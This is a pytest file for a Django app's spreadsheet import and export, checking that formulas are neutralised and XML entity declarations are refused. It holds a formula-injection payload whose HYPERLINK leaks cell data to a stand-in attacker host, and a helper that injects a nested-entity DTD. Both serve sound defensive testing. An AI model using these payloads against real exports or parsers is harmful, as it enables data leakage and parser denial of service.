"""Spreadsheets in and out: no formula runs on download, no XML trick reaches the parser."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from indicators.importing import apply_return, build_template, preview_upload
from indicators.models import ImportBatch, Outcome, Submission
from indicators.workflow import save_draft, start_submission
from tests.imports.helpers import xlsx

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'


def test_the_admins_export_download_neutralises_formulas(client, partnership):
    Outcome.objects.create(title=FORMULA, slug="evil")
    client.force_login(partnership.admin)
    url = reverse("admin:indicators_outcome_export")
    form = client.get(url).context["form"]
    fmt = next(str(i) for i, label in form.fields["format"].choices if str(label) == "csv")
    fields = {name: "on" for name in form.fields if name.startswith("outcomeresource_")}
    response = client.post(url, {"format": fmt, "resource": "0", **fields})
    assert response.status_code == 200
    cells = [
        c for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))) for c in row
    ]
    assert FORMULA[1:] in cells
    assert not any(cell.startswith("=") for cell in cells)


def test_a_commentary_starting_with_equals_round_trips_through_the_return(partnership):
    p = partnership
    text = "=mostly burglary; see the note"
    draft = start_submission(p.crime, p.county, p.open_period, p.submitter_a)
    save_draft(draft, p.submitter_a, {"numerator": 3000, "commentary": text})
    content, _, _ = build_template(p.org_a, p.open_period)
    cell = next(
        c
        for row in load_workbook(io.BytesIO(content))["Return"].iter_rows()
        for c in row
        if c.value == text
    )
    assert cell.data_type == "s"  # a spreadsheet shows it as text, never runs it
    batch, _ = preview_upload(content, "return.xlsx", p.org_a, p.open_period, p.submitter_a)
    assert batch.status == ImportBatch.Status.PREVIEWED, batch.errors
    apply_return(batch, p.submitter_a)
    assert Submission.objects.current().get(pk=draft.pk).commentary == text


def test_the_csv_return_quotes_a_formula_like_commentary_and_reads_it_back(partnership):
    """Opened in a spreadsheet the cell is text; uploaded again it is the commentary typed."""
    p = partnership
    text = "=mostly burglary; see the note"
    draft = start_submission(p.crime, p.county, p.open_period, p.submitter_a)
    save_draft(draft, p.submitter_a, {"numerator": 3000, "commentary": text})
    content, name, _ = build_template(p.org_a, p.open_period, "csv")
    cells = [c for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for c in row]
    assert "'" + text in cells
    assert text not in cells
    batch, _ = preview_upload(content, name, p.org_a, p.open_period, p.submitter_a)
    assert batch.status == ImportBatch.Status.PREVIEWED, batch.errors
    apply_return(batch, p.submitter_a)
    assert Submission.objects.current().get(pk=draft.pk).commentary == text


def with_dtd(content: bytes, member: str) -> bytes:
    """The workbook with a DOCTYPE declaring entities added to one of its XML parts."""
    source = zipfile.ZipFile(io.BytesIO(content))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == member:
                dtd = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
                prolog, _, body = data.rpartition(b"?>")
                data = (prolog + b"?>" if prolog else b"") + dtd + body
            target.writestr(item, data)
    return out.getvalue()


@pytest.mark.parametrize("member", ["xl/workbook.xml", "xl/worksheets/sheet1.xml"])
def test_a_workbook_declaring_xml_entities_is_refused_clearly(partnership, member):
    p = partnership
    good = xlsx([["crime", "", "E10000099", "", "2016/17-Q2", "", "", None, 3000]])
    batch, _ = preview_upload(
        with_dtd(good, member), "r.xlsx", p.org_a, p.open_period, p.submitter_a
    )
    assert batch.status == ImportBatch.Status.INVALID
    assert batch.errors == [
        f"This workbook's part {member} declares XML entities (a DOCTYPE), which spreadsheet "
        "programs never write and which can be used to attack the server. It is refused: "
        "save the data again from your spreadsheet program as an Excel Workbook (.xlsx)."
    ]
    assert not Submission.objects.exists()


def test_openpyxl_parses_through_defusedxml():
    from openpyxl.xml import DEFUSEDXML

    assert DEFUSEDXML
